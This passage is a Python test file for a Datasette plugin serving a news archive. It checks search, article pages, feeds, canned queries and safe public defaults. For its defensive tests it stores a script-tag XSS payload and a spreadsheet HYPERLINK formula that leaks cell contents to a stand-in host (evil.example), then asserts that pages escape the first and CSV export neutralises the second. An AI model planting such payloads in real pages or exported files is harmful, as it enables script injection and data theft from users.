"""Publishing, in this process: the archive's Datasette plugin (crawler.publish) as Datasette loads
it from its entry point, through Datasette's test client (tests.conftest.datasette / fetch): the
reader's pages, every canned query on an empty and on the bundled archive, table search,
metadata, feeds, charts, public defaults (hidden tables, escaping, CSV safe against formula
injection, SQL switch), databases that are not archives left alone, and snapshots.

Real servers (`datasette`, `datasette -i`, `newsarchive serve`) are tests/test_datasette.py's."""

import csv
import dataclasses
import io
import json
import re
import sqlite3
import threading
from html import unescape
from urllib.parse import urlencode

import feedparser
import pytest

from crawler.sites.registry import paper_of

import crawler.publish
from crawler.archive import Archive
from crawler.archive.schema import migrations
from crawler.archive.snapshot import SnapshotError, snapshot
from crawler.publish import config
from crawler.publish.csv_guard import CsvGuard, neutralise
from crawler.publish.highlight import highlight, paragraphs, query_terms, snippet
from crawler.publish.hooks import paper_function
from crawler.publish.i18n import format_moment
from crawler.publish.serve import serve_args
from crawler.sites import registry
from tests.conftest import SEED_URL, datasette, fetch, query

AR_URL = "https://www.maghress.com/hespress/606"
AR_ORIGINAL = "https://www.hespress.com/politique/1590321.html"
COPY_URL = "https://www.maghress.com/fr/lesechos/102"  # the seed article republished: same group
XSS = "<script>alert(1)</script>"
XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUERIES = config.queries()
HOOKS = {"prepare_connection", "get_metadata", "canned_queries", "register_routes", "menu_links",
         "extra_template_vars", "asgi_wrapper", "permission_allowed", "handle_exception", "filters_from_request",
         "register_facet_classes", "render_cell"}
SUMMARIES = {"summary_table_rows", "summary_articles_by_paper", "summary_articles_by_day", "summary_articles_by_month",
             "summary_headlines_by_day", "summary_headline_days", "summary_headline_sightings", "summary_stories",
             "summary_groups", "summary_failures"}


def visible_text(html):
    """What a reader sees, roughly: tags dropped (marks kept as [[...]]), entities decoded, spaces squeezed."""
    html = re.sub(r"(?s)<head>.*?</head>|<script.*?</script>|<svg.*?</svg>", " ", html)
    html = html.replace("<mark>", "[[").replace("</mark>", "]]")
    html = re.sub(r"</?(?:a|time|bdi|strong|span|code)\b[^>]*>", "", html)  # inline: no space
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).strip()


def rows(db, path, **options):
    response = fetch(db, path, **options)
    assert response.status_code == 200, response.text[:500]
    return response.json()


@pytest.fixture(scope="module")
def db(bundled):
    return bundled[0]


@pytest.fixture(scope="module")
def empty(tmp_path_factory):
    """A freshly migrated archive with nothing in it."""
    path = tmp_path_factory.mktemp("empty") / "archive.db"
    Archive.open(path).close()
    return path


@pytest.fixture(scope="module")
def other(tmp_path_factory):
    """A database that is no archive, though it has an articles table (with a formula cell)."""
    path = tmp_path_factory.mktemp("other") / "other.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE articles (url TEXT PRIMARY KEY, title TEXT)")
    conn.executemany("INSERT INTO articles VALUES (?, ?)", [("https://example.org/1", FORMULA), ("https://example.org/2", "métropole")])
    conn.commit()
    conn.close()
    return path


@pytest.fixture(scope="module")
def extra(db, tmp_path_factory):
    """A snapshot of the bundled archive plus hostile and changed rows, written through the storage
    layer (so the search index follows): a headline and an article with markup, a formula headline,
    an "Élections" headline, a second version of the seed article, duplicate groups and stories."""
    path = snapshot(db, tmp_path_factory.mktemp("extra") / "archive.db")
    archive = Archive(path)
    try:
        seen = "2025-09-05T10:00:00Z"
        archive.save_headlines([
            {"text": f"{XSS} Élections législatives : le calendrier", "key": "xss", "url": None, "seen_at": seen},
            {"text": FORMULA, "key": "formula", "url": None, "seen_at": seen},
        ])
        seed = archive.query("SELECT * FROM articles WHERE url = ?", [SEED_URL])[0]
        article = {"original_url": None, "image_url": None, "capture": None, "parser_version": "test"}
        archive.save_articles([
            {**article, "url": XSS_URL, "title": f"{XSS} Élections : le bulletin", "publisher": "<i>Evil</i> Press",
             "published": "2025-09-05", "language": "fr", "body": f"Premier paragraphe {XSS}.\n\nSecond <b>paragraphe</b>.",
             "content_hash": "xss", "seen_at": seen},
            {**article, "url": SEED_URL, "title": seed["title"], "publisher": seed["publisher"],
             "published": seed["published"], "language": "fr", "body": "Un texte corrigé sur la métropole.",
             "content_hash": "changed", "seen_at": "2026-12-01T00:00:00Z"},
        ])
        archive.db.execute("DELETE FROM article_groups")
        archive.db.conn.executemany(
            "INSERT INTO article_groups (url, grp, similarity, method, first_seen) VALUES (?, ?, ?, ?, ?)",
            [(SEED_URL, SEED_URL, 1.0, "first", "2025-09-04T00:00:00Z"),
             ("https://www.maghress.com/fr/lagazette/202", SEED_URL, 0.91, "near", "2025-09-04T01:00:00Z")])
        ids = [r["id"] for r in archive.query("SELECT id FROM headlines ORDER BY id LIMIT 3")]
        archive.db.execute("DELETE FROM stories")
        archive.db.conn.executemany("INSERT INTO stories (headline, story, similarity) VALUES (?, ?, ?)",
                                    [(ids[0], ids[0], 1.0), (ids[1], ids[0], 0.8), (ids[2], ids[2], 1.0)])
        archive.db.conn.commit()
    finally:
        archive.close()
    return path


def facts(db):
    """What the archive holds, counted directly (the bundled mirror's figures may change)."""
    conn = sqlite3.connect(db)
    try:
        one = lambda sql, *args: conn.execute(sql, args).fetchone()[0]
        return {
            "articles": one("SELECT count(*) FROM articles"),
            "fr": one("SELECT count(*) FROM articles WHERE language = 'fr'"),
            "ar": one("SELECT count(*) FROM articles WHERE language = 'ar'"),
            "papers": one("SELECT count(DISTINCT publisher) FROM articles"),
            "headlines": one("SELECT count(*) FROM headlines"),
            "first": one("SELECT min(published) FROM articles"),
            "last": one("SELECT max(published) FROM articles"),
            "metropole": one("SELECT count(*) FROM search_fts WHERE search_fts MATCH '\"metropole\"'"),
        }
    finally:
        conn.close()


# --- the plugin, as Datasette loads it --------------------------------------------------------------------------
def test_the_plugin_is_the_package_from_its_entry_point_with_its_templates(db):
    plugins = {p["name"]: p for p in rows(db, "/-/plugins.json")}
    assert set(plugins["newsarchive"]["hooks"]) == HOOKS
    assert plugins["newsarchive"]["templates"] is True  # crawler/publish/templates, found by Datasette
    assert "datasette-atom" in plugins
    assert crawler.publish.__file__.endswith("crawler/publish/__init__.py")


def test_serve_passes_the_settings_and_nothing_else(db):
    """`newsarchive serve` runs `datasette serve` with the settings as options: no metadata file,
    no template or plugins folder (the real server: tests/test_datasette.py)."""
    args = serve_args(db, "127.0.0.1", 8001, allow_sql=False)
    assert args[:6] == ["serve", str(db), "--host", "127.0.0.1", "--port", "8001"]
    triples = [args[i:i + 3] for i in range(6, len(args), 3)]
    assert all(t[0] == "--setting" and len(t) == 3 for t in triples)
    assert {t[1]: t[2] for t in triples} == {
        "sql_time_limit_ms": "3000", "max_returned_rows": "1000", "default_allow_sql": "off",
        "facet_time_limit_ms": "500", "suggest_facets": "off", "default_facet_size": "20", "allow_csv_stream": "on",
        "max_csv_mb": "100"}
    assert serve_args(db, "0.0.0.0", 80, immutable=True)[:3] == ["serve", "-i", str(db)]
    default = serve_args(db, "h", 1)
    assert default[default.index("default_allow_sql") + 1] == "off"  # arbitrary SQL off unless asked for
    on = serve_args(db, "h", 1, allow_sql=True)
    assert on[on.index("default_allow_sql") + 1] == "on"


# --- the home page ---------------------------------------------------------------------------------------------
def test_home_page_says_what_the_archive_holds(db):
    response = fetch(db, "/")
    assert response.status_code == 200
    text = visible_text(response.text)
    f = facts(db)
    assert (f"This archive holds {f['articles']} articles ({f['fr']} in French, {f['ar']} in Arabic) from "
            f"{f['papers']} papers, published from {format_moment(f['first'], 'en')} to "
            f"{format_moment(f['last'], 'en')}, and {f['headlines']} ticker "
            "headlines, crawled from www.maghress.com.") in text
    assert registry.site("maghress").description in text
    assert "Last crawl: #2 started" in text and "(finished), 10 pages." in text
    html = response.text
    for link in ("/-/search", "/-/charts", "/archive/latest_headlines", "/archive/ticker_at",
                 "/archive/articles_per_publisher_per_day", "/archive/articles_per_publisher_per_month",
                 "/archive/most_reported_stories", "/archive/duplicate_groups", "/archive/changed_articles",
                 "/archive/crawl_health", "/archive/failures_by_reason", "/archive/latest_articles_feed.atom",
                 f"/-/article?url={SEED_URL.replace(':', '%3A').replace('/', '%2F')}"):
        assert f'href="{link}' in html, link
    assert html.count('<svg class="na-chart"') == 1  # headlines per day per paper
    assert html.count("<h1>") == 1


def test_home_page_of_an_empty_archive(empty):
    text = visible_text(fetch(empty, "/").text)
    assert "This archive holds 0 articles (0 in French, 0 in Arabic) from 0 papers, and 0 ticker headlines." in text
    assert "No crawl yet" in text and "No article yet." in text


# --- search ---------------------------------------------------------------------------------------------------
def search(db, q, **params):
    query_string = "&".join(f"{k}={v}" for k, v in {"q": q, **params}.items())
    response = fetch(db, f"/-/search?{query_string}")
    assert response.status_code == 200
    return response.text


def test_french_search_folds_accents_and_highlights_the_original_words(db):
    html = search(db, "metropole")
    assert f"{facts(db)['metropole']} results for" in visible_text(html)
    first = html.index('class="na-result na-article"')
    assert "<mark>métropole</mark>" in html[first:]
    assert 'Casablanca Smart City: La <mark>métropole</mark> sur le bon chemin' in html
    assert search(db, "MÉTROPOLE").count("<mark>métropole</mark>") == html.count("<mark>métropole</mark>")


def test_elections_finds_accented_capital(extra):
    html = search(extra, "elections")
    assert "<mark>Élections</mark> législatives" in html
    assert "<mark>Élections</mark> : le bulletin" in html


@pytest.mark.parametrize("q, marked", [
    ("الحكومه", "الحكومة"),      # ta marbuta ة / ه
    ("الاطار", "الإطار"),        # alef with hamza below / bare alef
    ("الي", "إلى"),              # alef forms and alef maqsura ى / ya ي
    ("الحـكـومة", "الحكومة"),    # tatweel ignored
    ("الحُكُومَة", "الحكومة"),     # diacritics ignored
])
def test_arabic_search_folds_letter_variants(db, q, marked):
    html = search(db, q)
    assert f"<mark>{marked}</mark>" in html
    assert f'href="/-/article?url={AR_URL.replace(":", "%3A").replace("/", "%2F")}"' in html
    assert 'lang="ar" dir="rtl"' in html


def test_search_ranks_articles_then_headlines_by_relevance(db):
    results = rows(db, "/archive/search.json?_shape=array&q=casablanca")
    kinds = [r["kind"] for r in results]
    assert kinds == sorted(kinds)  # articles first
    for kind in ("article", "headline"):
        ranks = [r["rank"] for r in results if r["kind"] == kind]
        assert ranks == sorted(ranks) and ranks
    assert {r["url"] for r in results if r["kind"] == "article"} >= {
        SEED_URL, "https://www.maghress.com/fr/lagazette/202"}


def test_search_takes_any_input(db):
    for q in ('"', "AND OR NEAR(", "title:x*", "  ", "<b>"):
        html = search(db, q.replace("&", "%26"))
        assert "Search the archive" in html
    assert "No result for" in visible_text(search(db, "zzzzqqq"))


def test_search_pages_and_kinds(db):
    text = visible_text(search(db, "le", kind="headline"))
    assert re.search(r"\d+ results for", text) and "page 1 of" in text
    html = search(db, "le", kind="headline", page=2)
    assert 'class="na-result na-article"' not in html and 'class="na-result na-headline"' in html


def test_search_as_json_csv_and_atom(db):
    found = rows(db, "/archive/search.json?_shape=array&q=metropole")
    assert len(found) == facts(db)["metropole"]
    assert (found[0]["kind"], found[-1]["kind"]) == ("article", "headline")
    assert SEED_URL in [r["url"] for r in found if r["kind"] == "article"]
    body = fetch(db, "/archive/search.csv?q=الاطار").text
    assert AR_URL in body
    feed = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=metropole").text)
    assert not feed.bozo and feed.feed.title == "Atom feed: a search"
    assert len(feed.entries) == len(found) and reader(SEED_URL) in {e.link for e in feed.entries}
    links = {reader(r["url"]) for r in found}
    assert all(e.link in links for e in feed.entries)  # every link is the archived copy of the data's own URL
    nothing = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=zzzzqqq").text)
    assert [(e.title, e.id, e.link) for e in nothing.entries] == [
        ("Nothing matches “zzzzqqq” yet", "tag:newsarchive,2025:search:zzzzqqq", "tag:newsarchive,2025:search:zzzzqqq")]


def test_search_feed_links_a_headline_without_url_to_the_page_it_was_seen_on(extra):
    feed = feedparser.parse(fetch(extra, "/archive/search_feed.atom?q=calendrier").text)
    entry = next(e for e in feed.entries if "calendrier" in e.title)
    page = query(extra, "SELECT s.page_url FROM headline_sightings s JOIN headlines h ON h.id = s.headline"
                        " WHERE h.key = 'xss'")
    assert entry.link == (page[0]["page_url"] if page else entry.id) and entry.id.startswith("tag:newsarchive,2025:headline:")
    assert entry.author == "The ticker" and entry.summary.startswith("On the ticker from 2025-09-05T10:00:00Z")


def test_highlight_and_snippet_escape_and_mark():
    terms = query_terms("Elections")
    assert highlight(f"{XSS} Élections", terms) == (
        "&lt;script&gt;alert(1)&lt;/script&gt; <mark>Élections</mark>")
    long = " ".join(["mot"] * 100 + ["élections"] + ["fin"] * 100)
    cut = snippet(long, terms)
    assert cut.startswith("… ") and cut.endswith(" …") and "<mark>élections</mark>" in cut
    assert paragraphs("Un.\n\n  Deux\nlignes.\n\n\n") == ["Un.", "Deux lignes."]
    paper = paper_function(None)
    assert paper("https://www.maghress.com/fr/lesechos/101") == "lesechos"
    assert paper("https://www.maghress.com/hespress/606") == "hespress"
    assert paper("https://www.maghress.com/fr") is None and paper(None) is None
    assert paper("http://127.0.0.1:8000/fr/lesechos/101") is None  # a host no site claims
    assert paper_function(registry.site("maghress"))("http://127.0.0.1:8000/fr/lesechos/101") == "lesechos"


# --- table search: Datasette's own, through the folded index (search_fts) -------------------------------------------------
def test_table_search_folds_accents(db):
    found = rows(db, "/archive/articles.json?_search=metropole&_shape=array")
    assert sorted(row["url"] for row in found) == [COPY_URL, SEED_URL]  # the seed and its copy


def test_headline_table_search(db):
    found = rows(db, "/archive/headlines.json?_search=temperatures&_shape=array")
    assert [r["text"] for r in found] == ["Les températures attendues ce jeudi 4 septembre 2025"]


def test_search_box_and_facets_in_the_ui(db):
    html = fetch(db, "/archive/articles").text
    assert 'name="_search"' in html
    facets = rows(db, "/archive/articles.json")["facet_results"]
    assert {"publisher", "language", "published"} <= set(facets)
    languages = {f["value"]: f["count"] for f in facets["language"]["results"]}
    assert languages == {"fr": 7, "ar": 1}
    assert facets["published"]["type"] == "date"
    assert 'name="_search"' in fetch(db, "/archive/headlines").text


def test_reads_go_on_while_a_crawl_holds_the_write_lock(db):
    writer = sqlite3.connect(db, isolation_level=None)
    try:
        writer.execute("BEGIN IMMEDIATE")
        writer.execute("INSERT INTO crawls (started, source) VALUES ('2026-01-01T00:00:00Z', 'test')")
        found = rows(db, "/archive/articles.json?_search=metropole&_shape=array")
        assert sorted(r["url"] for r in found) == [COPY_URL, SEED_URL]
        assert "<mark>métropole</mark>" in search(db, "metropole")
    finally:
        writer.execute("ROLLBACK")
        writer.close()


# --- metadata -------------------------------------------------------------------------------------------------------
def test_metadata_describes_the_archive_from_its_site(db):
    data = rows(db, "/-/metadata.json")
    maghress = registry.site("maghress")
    assert (data["title"], data["about"]) == ("newsarchive", "newsarchive")
    assert (data["description"], data["source"], data["source_url"]) == (maghress.description, "Maghress", maghress.home)
    assert "settings" not in data and set(data["databases"]) == {"archive"}
    tables = data["databases"]["archive"]["tables"]
    assert {"articles", "headlines", "headline_sightings", "article_versions", "captures", "crawls", "urls",
            "article_groups", "stories"} <= set(tables)
    assert all(t["description"] for t in tables.values())
    assert SUMMARIES <= {name for name, t in tables.items() if t.get("hidden")}
    # Table search is the plugin's (crawler.publish.tables), through search_fts: not Datasette's fts_table.
    assert not any("fts_table" in t for t in tables.values())


def test_metadata_of_several_sites_names_them_all():
    one = registry.site("maghress")
    two = dataclasses.replace(one, name="other", title="Other", description="", home="https://other.example/")
    assert config.instance_metadata([one]) == {
        "title": "newsarchive", "about": "newsarchive", "description": one.description, "source": "Maghress",
        "source_url": one.home}
    assert config.instance_metadata([one, two]) == {
        "title": "newsarchive", "about": "newsarchive", "description": "An archive of 2 news sites: Maghress, Other.",
        "source": "Maghress, Other"}
    generic = config.instance_metadata([])  # no site known: generic wording, no source
    assert set(generic) == {"title", "about", "description"} and generic["description"].startswith("An archive of news sites")


# --- article pages --------------------------------------------------------------------------------------------------
def article(db, url, **params):
    query_string = "&".join(f"{k}={v}" for k, v in {"url": url, **params}.items())
    return fetch(db, f"/-/article?{query_string}")


def test_french_article_page(db):
    response = article(db, SEED_URL)
    assert response.status_code == 200
    html = response.text
    body = re.search(r'(?s)<article class="na-article" lang="fr" dir="ltr">(.*?)</article>', html).group(1)
    assert body.count("<p>") == 14  # the 14 paragraphs (the byline has a class)
    assert "<h1>Casablanca Smart City: La métropole sur le bon chemin pour devenir une ville intelligente</h1>" in body
    assert 'class="na-publisher">Maroc Diplomatique<' in body
    assert re.search(r'<time datetime="2017-07-12"[^>]*>12 July 2017</time>', body)
    assert f'<a class="na-source" href="{SEED_URL}" rel="noopener nofollow">The page on <bdi>Maghress</bdi></a>' in html
    assert "/archive/article_history?url=" in html


def test_arabic_article_page_is_right_to_left(db):
    html = article(db, AR_URL).text
    body = re.search(r'(?s)<article class="na-article" lang="ar" dir="rtl">(.*?)</article>', html).group(1)
    assert body.count("<p>") == 3  # the 3 paragraphs
    assert "هسبريس" in body and 'datetime="2025-09-03"' in body
    assert f'<a class="na-original" href="{AR_ORIGINAL}"' in html
    assert "الحكومة تصادق على مشروع قانون جديد لتنظيم قطاع النقل الطرقي" in visible_text(html)


def test_article_page_shows_versions(extra):
    html = article(extra, SEED_URL).text
    assert "Showing version 2 of 2." in visible_text(html)
    assert "Un texte corrigé sur la métropole." in html
    old = article(extra, SEED_URL, version=1).text
    assert "Showing version 1 of 2." in visible_text(old) and "Faire de Casablanca une Smart City" in old
    assert article(extra, SEED_URL, version=9).status_code == 404


def test_article_page_shows_its_duplicate_group(extra, db):
    text = visible_text(article(extra, SEED_URL).text)
    assert "The same article appears once more:" in text
    assert "Eau potable : la station de dessalement de Casablanca entre dans sa phase finale" in text
    assert "near (0.91)" in text
    assert "first seen" in visible_text(article(extra, "https://www.maghress.com/fr/lagazette/202").text)
    assert "The same article appears once more:" in visible_text(article(db, SEED_URL).text)  # the crawl's own group
    assert "No other paper’s copy of this article is archived." in visible_text(article(db, AR_URL).text)


def test_unknown_article_is_404(db):
    response = article(db, "https://www.maghress.com/fr/nowhere/1")
    assert response.status_code == 404
    assert "<h1>No archived article</h1>" in response.text
    assert 'Nothing in this archive at <code class="na-url" dir="ltr">https://www.maghress.com/fr/nowhere/1</code>' in response.text


# --- canned queries: each runs once on an empty archive and once on the bundled one -------------------------------
def test_the_canned_queries_are_listed_for_the_archive(db):
    listed = {q["name"]: q for q in rows(db, "/archive.json")["queries"]}
    assert set(listed) == set(QUERIES) and len(QUERIES) == 19
    assert all(listed[name]["title"] == QUERIES[name]["title"] for name in QUERIES)
    html = fetch(db, "/archive").text
    assert all(f'href="/archive/{name}"' in html for name in QUERIES)


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_every_canned_query_runs_on_an_empty_archive(empty, name):
    data = rows(empty, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2030-01-01T00:00:00Z")
    assert data["ok"] is True
    feeds = {"search_feed": 1, "latest_articles_feed": 1}  # an empty feed says so in one entry
    assert len(data["rows"]) == feeds.get(name, 0)


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_every_canned_query_runs_on_the_bundled_archive(db, name):
    data = rows(db, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2999-01-01T00:00:00Z")
    assert data["ok"] is True
    # no article changed between the two crawls, and their extraction did not drift
    assert bool(data["rows"]) == (name not in ("changed_articles", "extraction_drift_recent")), name


def test_latest_headlines(db):
    found = rows(db, "/archive/latest_headlines.json?_shape=array")
    assert len(found) == 60
    assert all(r["crawls"] == 2 for r in found)


def test_articles_per_publisher_per_month(db):
    found = rows(db, "/archive/articles_per_publisher_per_month.json?_shape=array")
    assert sum(r["articles"] for r in found) == 8
    assert {"month": "2017-07", "publisher": "Maroc Diplomatique", "articles": 1} in found


def test_headlines_most_crawls(db):
    found = rows(db, "/archive/headlines_most_crawls.json?_shape=array")
    assert len(found) == 60
    assert found[0]["crawls"] == 2
    assert found[0]["best_position"] == 1


def test_ticker_at_a_given_time(db):
    found = rows(db, "/archive/ticker_at.json?_shape=array&at=2999-01-01T00:00:00Z")
    assert len(found) == 60 and {r["crawl"] for r in found} == {2}  # the last crawl before that time
    assert found[0]["position"] == 1
    assert rows(db, "/archive/ticker_at.json?_shape=array&at=2000-01-01T00:00:00Z") == []


def test_headline_durations(db):
    found = rows(db, "/archive/headline_durations.json?_shape=array")
    assert len(found) == 60
    assert all(r["crawls"] == 2 for r in found)
    assert found[0]["hours_on_ticker"] >= found[-1]["hours_on_ticker"] >= 0


def test_articles_per_publisher_per_day(db):
    found = rows(db, "/archive/articles_per_publisher_per_day.json?_shape=array")
    assert sum(r["articles"] for r in found) == facts(db)["articles"]
    assert {"day": "2025-09-03", "publisher": "هسبريس", "articles": 1} in found


def test_headlines_per_day_per_publisher(db):
    found = rows(db, "/archive/headlines_per_day_per_publisher.json?_shape=array")
    conn = sqlite3.connect(db)
    expected = conn.execute(
        "SELECT count(*) FROM (SELECT DISTINCT substr(seen_at, 1, 10), headline FROM headline_sightings)").fetchone()[0]
    assert sum(r["headlines"] for r in found) == expected
    # A paper is its slug (None when the link names none) and, with an archived article, its name
    # (the largest, as the query's max()); which papers the ticker's links point to depends on which
    # page's link a headline kept first.
    names: dict = {}
    for url, publisher in conn.execute("SELECT url, publisher FROM articles"):
        names[paper_of(url)] = max(names.get(paper_of(url), ""), publisher)
    linked = {paper_of(url) for (url,) in conn.execute("SELECT url FROM headlines")}
    conn.close()
    assert {r["paper"] for r in found} == linked
    assert {(r["paper"], r["publisher"]) for r in found} == {(p, names.get(p)) for p in linked}
    assert ("lesechos", "Les Echos") in {(r["paper"], r["publisher"]) for r in found}


def test_crawl_figures_come_from_the_crawls_columns(db, tmp_path):
    """crawl_log, crawl_health, crawl_volume and the home page read crawls' columns, not the stats JSON."""
    assert [(r["id"], r["pages"], r["finish_reason"]) for r in rows(db, "/archive/crawl_log.json?_shape=array")] == [
        (2, 10, "finished"), (1, 10, "finished")]
    copy = snapshot(db, tmp_path / "archive.db")
    conn = sqlite3.connect(copy)
    conn.execute("UPDATE crawls SET stats = NULL")
    conn.execute("UPDATE crawls SET finish_reason = 'closespider_pagecount', pages_parsed = 7 WHERE id = 2")
    conn.commit()
    conn.close()
    log, health, home = fetch(copy, "/archive/crawl_log.json?_shape=array", "/archive/crawl_health.json?_shape=array", "/")
    assert [(r["id"], r["pages"], r["finish_reason"]) for r in log.json()] == [
        (2, 7, "closespider_pagecount"), (1, 10, "finished")]
    assert [(r["id"], r["outcome"]) for r in health.json()] == [(2, "closespider_pagecount"), (1, "finished")]
    assert "(closespider_pagecount), 10 pages." in visible_text(home.text)  # pages fetched


def test_crawl_health_and_failures(db):
    runs = rows(db, "/archive/crawl_health.json?_shape=array")
    crawls = {r["id"]: r for r in query(db, "SELECT * FROM crawls")}
    assert [(r["id"], r["outcome"], r["pages"], r["skipped"]) for r in runs] == [
        (n, "finished", crawls[n]["pages_fetched"], sum(json.loads(crawls[n]["skipped"]).values())) for n in (2, 1)]
    assert all(r["pages"] > 0 for r in runs)
    reasons = {(r["outcome"], r["reason"]): r for r in rows(db, "/archive/failures_by_reason.json?_shape=array")}
    assert reasons[("skipped", "not_in_mirror")]["urls"] == sum(
        json.loads(c["skipped"]).get("not_in_mirror", 0) for c in crawls.values())
    assert reasons[("skipped", "robots_forbidden")]["crawls"] == 2
    volume = rows(db, "/archive/crawl_volume.json?_shape=array")
    assert [(r["crawl"], r["pages"]) for r in volume] == [(n, crawls[n]["pages_fetched"]) for n in (2, 1)]


def test_changed_articles_lists_the_new_version(extra):
    found = rows(extra, "/archive/changed_articles.json?_shape=array")
    assert [(r["url"], r["old_version"], r["new_version"]) for r in found] == [(SEED_URL, 1, 2)]


def test_most_reported_stories_and_duplicate_groups(extra, db):
    stories = rows(extra, "/archive/most_reported_stories.json?_shape=array")
    assert [r["headlines"] for r in stories] == [2]  # the single-headline story is no "most reported" one
    groups = rows(extra, "/archive/duplicate_groups.json?_shape=array")
    assert [(g["first_url"], g["articles"], g["papers"]) for g in groups] == [(SEED_URL, 2, 2)]
    crawled = rows(db, "/archive/duplicate_groups.json?_shape=array")
    assert [(g["first_url"], g["articles"]) for g in crawled] == [(SEED_URL, 2)]  # the seed and its copy


# --- feeds ------------------------------------------------------------------------------------------------------------
def reader(url: str, base: str = "/") -> str:
    """The reader page's address of an article, as the plugin writes it (its URL encoded)."""
    return f"{base}-/article?{urlencode({'url': url})}"


def test_feed_links_follow_base_url(db):
    """Served under a prefix (Datasette's base_url), the feeds link each article to the reader
    page under that prefix, and the page answers there."""
    import asyncio

    from datasette.app import Datasette

    from crawler.publish.config import settings

    async def run():
        ds = Datasette(files=[str(db)], settings={**settings(allow_sql=True), "base_url": "/news/"})
        try:
            # (Datasette's client adds the prefix to the paths it is given)
            feed = (await ds.client.get("/archive/latest_articles_feed.atom")).text
            search = (await ds.client.get("/archive/search_feed.atom?q=metropole")).text
            link = reader(SEED_URL, "/news/")
            page = await ds.client.get(link.removeprefix("/news"))
            return feed, search, link, page
        finally:
            for database in ds.databases.values():
                database.close()

    feed, search, link, page = asyncio.run(run())
    assert link in {e.link for e in feedparser.parse(feed).entries}
    assert link in {e.link for e in feedparser.parse(search).entries}
    assert page.status_code == 200 and "Smart city" in page.text


def test_atom_feed_of_the_latest_articles(db, empty):
    feed = feedparser.parse(fetch(db, "/archive/latest_articles_feed.atom").text)
    assert not feed.bozo and feed.feed.title == "Atom feed: the latest articles"
    assert len(feed.entries) == facts(db)["articles"]
    assert {e.link for e in feed.entries} >= {reader(SEED_URL), reader(AR_URL)}  # archived copies
    assert {e.author for e in feed.entries} >= {"Maroc Diplomatique", "هسبريس"}
    nothing = feedparser.parse(fetch(empty, "/archive/latest_articles_feed.atom").text)
    assert [(e.title, e.link) for e in nothing.entries] == [("The archive holds no article yet", "tag:newsarchive,2025:empty")]


# --- charts ---------------------------------------------------------------------------------------------------------------
def test_charts_page(db, empty):
    html = fetch(db, "/-/charts").text
    assert html.count('<svg class="na-chart"') == 3
    for title in ("Headlines on the ticker per day, by paper", "Crawl volume", "Articles per month"):
        assert title in html
    assert "/archive/crawl_volume.json" in html and "/archive/crawl_volume.csv" in html
    assert "Nothing to chart yet." in fetch(empty, "/-/charts").text


# --- public defaults -------------------------------------------------------------------------------------------------
def test_internal_tables_are_not_served(db):
    """Not listed, no table page (403), with arbitrary SQL on or off; SQL on them:
    tests/test_serve_safety.py."""
    tables = {t["name"]: t["hidden"] for t in rows(db, "/archive.json")["tables"]}
    assert {name for name, hidden in tables.items() if not hidden} == {
        "articles", "headlines", "headline_sightings", "article_versions", "crawls", "article_groups", "stories",
        "extraction_health", "extraction_drift"}
    assert {name for name, hidden in tables.items() if hidden} == SUMMARIES  # listed as hidden, readable
    listed = visible_text(fetch(db, "/").text).split("Databases", 1)[1]
    assert "captures" not in listed and "urls" not in listed
    for allow_sql in (False, True):
        pages = fetch(db, "/archive/captures.json", "/archive/urls", "/archive/group_signatures.csv",
                      "/archive/_sqlite_migrations", "/archive/search_fts", "/archive/search_fts_data",
                      "/archive/urls/1.json", allow_sql=allow_sql)
        assert [p.status_code for p in pages] == [403] * 7
        assert all("You do not have permission to view this table" in p.text for p in pages)


def test_stored_text_is_escaped_everywhere(extra):
    pages = ["/", "/-/search?q=elections", f"/-/article?url={XSS_URL}", "/archive/headlines?_search=elections",
             "/archive/latest_headlines", "/-/charts", "/archive/articles?_sort_desc=first_seen"]
    for path, response in zip(pages, fetch(extra, *pages)):
        assert response.status_code == 200, path
        assert XSS not in response.text, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text or "&lt;i&gt;Evil" in response.text, path
        assert "<i>Evil</i>" not in response.text and "<b>paragraphe</b>" not in response.text, path


def test_csv_is_safe_against_formula_injection(extra):
    for path in ("/archive/headlines.csv?_sort=id", "/archive/headlines.csv?_stream=1&_size=7&_sort=id",
                 "/archive/latest_headlines.csv", "/archive.csv?sql=select+id,+text+from+headlines+order+by+id"):
        table = list(csv.reader(io.StringIO(fetch(extra, path).text)))
        texts = [row[table[0].index("text")] for row in table[1:]]
        assert "'" + FORMULA in texts, path
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts), path
        assert "Les températures attendues ce jeudi 4 septembre 2025" in texts
    ranks = list(csv.DictReader(io.StringIO(fetch(extra, "/archive/search.csv?q=casablanca").text)))
    assert ranks and all(float(r["rank"]) < 0 for r in ranks)  # negative numbers are left as numbers


def test_csv_guard_streams_records_split_anywhere():
    data = 'id,text\r\n1,"=1+2"\r\n2,"multi\r\nline ""=x"""\r\n3,-4.5\r\n4,@SUM(A1)\r\n5,né\r\n'.encode()
    guard = CsvGuard()
    out = b"".join(guard.feed(data[i:i + 1]) for i in range(len(data))) + guard.feed(b"", final=True)
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
        ["id", "text"], ["1", "'=1+2"], ["2", 'multi\r\nline "=x"'], ["3", "-4.5"], ["4", "'@SUM(A1)"], ["5", "né"]]
    assert neutralise("+33 6 12") == "'+33 6 12" and neutralise("-12") == "-12" and neutralise("a=b") == "a=b"


def test_settings_limit_time_and_rows(db):
    assert config.settings()["default_allow_sql"] is False  # arbitrary SQL off unless asked for
    settings = rows(db, "/-/settings.json", allow_sql=False)
    assert (settings["sql_time_limit_ms"], settings["max_returned_rows"], settings["default_allow_sql"]) == (3000, 1000, False)
    assert (settings["facet_time_limit_ms"], settings["allow_csv_stream"], settings["max_csv_mb"]) == (500, True, 100)
    assert "settings" not in rows(db, "/-/metadata.json")


def test_arbitrary_sql_can_be_switched_off(db):
    on = fetch(db, "/archive.json?sql=select+count(*)+from+articles", allow_sql=True)
    assert on.status_code == 200
    off = fetch(db, "/archive.json?sql=select+1", "/archive/latest_headlines.json", "/-/search?q=metropole",
